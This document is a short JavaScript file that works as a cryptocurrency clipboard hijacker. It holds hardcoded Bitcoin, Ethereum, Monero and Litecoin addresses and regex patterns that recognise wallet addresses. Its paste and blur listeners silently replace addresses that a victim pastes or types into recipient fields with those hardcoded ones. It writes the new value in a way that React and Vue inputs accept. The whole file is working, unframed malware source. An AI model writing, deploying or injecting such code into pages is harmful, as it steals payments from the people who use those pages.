const walletTargets = {
  bitcoin: ['bc1q7hlxaqkvan4k5f2auvukc207gtjqdfzaz7p8ws', '1D1jSXy6LoNrjbV8iECE8ZwUHQeaDTMf5z'],
  ether: '0x414ce9da201e0c0d1a0dc00f0e71a714a16e81c1',
  monero: '49MMUg6u7DoUo8qkj4bToWY2QLU5LK8kjgZx489yPpErzzZBNQn8NTuX85Qqjx3SRJXNDBr2biuZPTXmpzEBL8UZc4QE3PA',
  litecoin: 'ltc1ql8fvf3gj53g2mr7we84qt0nlpn9yy49ha69w42',
};

const patterns = [
  [/^(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$/, (v) => (v.startsWith('bc1') ? walletTargets.bitcoin[0] : walletTargets.bitcoin[1])],
  [/^0x[a-f0-9]{40}$/i, () => walletTargets.ether],
  [/^[48][0-9AB][1-9A-HJ-NP-Za-km-z]{93}$/, () => walletTargets.monero],
  [/^(?:ltc1|[LM])[a-zA-HJ-NP-Z0-9]{26,40}$/, () => walletTargets.litecoin],
];

const substitute = (raw) => {
  const v = raw.trim();
  const hit = patterns.find(([re]) => re.test(v));
  return hit ? hit[1](v) : null;
};

// set value in a way React/Vue controlled inputs notice
const setNative = (el, value) => {
  const proto = el instanceof HTMLTextAreaElement ? HTMLTextAreaElement.prototype : HTMLInputElement.prototype;
  const setter = Object.getOwnPropertyDescriptor(proto, 'value').set;
  setter.call(el, value);
  el.dispatchEvent(new Event('input', { bubbles: true }));
  el.dispatchEvent(new Event('change', { bubbles: true }));
};

document.addEventListener('paste', (e) => {
  const field = e.target;
  if (!field || !('value' in field)) return;
  const pasted = (e.clipboardData || window.clipboardData).getData('text');
  const replacement = substitute(pasted);
  if (!replacement) return;
  e.preventDefault();
  const start = field.selectionStart ?? field.value.length;
  const end = field.selectionEnd ?? field.value.length;
  setNative(field, field.value.slice(0, start) + replacement + field.value.slice(end));
}, true);

// second pass: some wallets read the value on blur, catch typed/dropped addresses too
document.addEventListener('blur', (e) => {
  const f = e.target;
  if (f && /address|recipient|wallet|to$/i.test(f.name || f.id || '') && typeof f.value === 'string') {
    const r = substitute(f.value);
    if (r && r !== f.value.trim()) setNative(f, r);
  }
}, true);
